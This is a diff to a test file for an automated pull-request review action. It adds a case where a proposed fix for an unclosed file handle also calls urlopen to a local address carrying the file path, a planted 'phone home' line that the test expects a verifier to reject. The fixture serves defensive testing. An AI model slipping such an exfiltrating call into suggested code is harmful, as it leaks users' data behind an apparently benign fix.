@@ -1,6 +1,7 @@
-"""Verified fixes end to end through action.yml: a confirmed finding whose replacement applies
-and passes the configured check is posted as a ```suggestion block that GitHub would commit
-onto exactly the flagged lines; a replacement that fails the check is posted without one.
+"""Verified fixes end to end through action.yml: a confirmed finding whose replacement its
+verifier approved, that applies and passes the configured check, is posted as a ```suggestion
+block that GitHub would commit onto exactly the flagged lines; a replacement that fails the
+check, or that the verifier rejected, is posted without one.
 
 The check command comes from the base revision's configuration: the pull request's own
 change to it is not what runs.
@@ -27,10 +28,17 @@ from tests.github.conftest import (
 from tests.github.suggestions import apply_suggestion, suggestion_of
 from tests.github.test_action import run_step_in, steps
 from tests.gitrepos import commit
-from tests.scripted import PLANTED_FILES, Concern, ReviewScript
+from tests.scripted import PLANTED_FILES, Concern, ReviewScript, reject_fix
 
 BASE_CONFIG = '[tool.orch-review]\nsuggestion-check = "python3 -m py_compile {path}"\n'
 CALC = "def half(x: int) -> float:\n    return x / 2\n"
+LOADER = "def load(path: str) -> str:\n    return open(path).read()\n"
+# Passes the check, but does more than close the file: only the verifier can stop it.
+LOADER_FIX = (
+    "    with open(path) as handle:\n"
+    "        __import__('urllib.request').request.urlopen('http://127.0.0.1:9/?' + path)\n"
+    "        return handle.read()"
+)
 SAFE_QUERY = (
     '    cursor.execute("SELECT * FROM users WHERE name = ?", (name,))\n'
     "    row = cursor.fetchone()\n"
@@ -64,6 +72,18 @@ def _script() -> ReviewScript:
                 suggestion="Use floor division.",
                 replacement=lambda text: text.replace("/ 2", "// 2 if"),  # a syntax error
             ),
+            Concern(
+                "handles",
+                "Check loader.py for file handles left open.",
+                "grep -n 'open(' loader.py",
+                path="loader.py",
+                severity="low",
+                category="resource-leak",
+                claim="load() never closes the file it opens.",
+                suggestion="Open the file in a `with` block.",
+                replacement=lambda _: LOADER_FIX,
+                fix=reject_fix,
+            ),
         ]
     )
 
@@ -81,7 +101,13 @@ def test_a_verified_fix_is_a_suggestion_and_a_failing_one_is_prose(
     # The pull request also tries to make every check pass: the base's command must run.
     pr_config = '[tool.orch-review]\nsuggestion-check = "true"\n'
     head = commit(
-        repo, {"app.py": PLANTED_FILES["app.py"], "calc.py": CALC, "pyproject.toml": pr_config}
+        repo,
+        {
+            "app.py": PLANTED_FILES["app.py"],
+            "calc.py": CALC,
+            "loader.py": LOADER,
+            "pyproject.toml": pr_config,
+        },
     )
     pull = PullRepo(repo, base, head)
     open_pull(github_api, pull)
@@ -108,7 +134,7 @@ def test_a_verified_fix_is_a_suggestion_and_a_failing_one_is_prose(
 
     assert result.returncode == 0, result.stdout + result.stderr
     comments = {c["path"]: c for c in github_api.pulls[NUMBER].review_comments}
-    assert set(comments) == {"app.py", "calc.py"}
+    assert set(comments) == {"app.py", "calc.py", "loader.py"}
 
     injection = comments["app.py"]
     assert (injection["start_line"], injection["line"]) == (6, 7)
@@ -138,3 +164,13 @@ def test_a_verified_fix_is_a_suggestion_and_a_failing_one_is_prose(
     assert patches["calc.py"]["verified"] is False
     assert "py_compile" in patches["calc.py"]["reason"]
     assert "SyntaxError" in patches["calc.py"]["reason"]
+
+    # The leak is real, the fix would phone home: the verifier confirmed one, rejected the other.
+    loader = comments["loader.py"]
+    assert suggestion_of(loader["body"]) is None
+    assert "```" not in loader["body"] and "urlopen" not in loader["body"]
+    assert "Open the file in a `with` block." in loader["body"]
+    assert patches["loader.py"]["verified"] is False
+    assert patches["loader.py"]["reason"] == (
+        "the verifier did not approve the fix: " + reject_fix({}, "")[1]
+    )
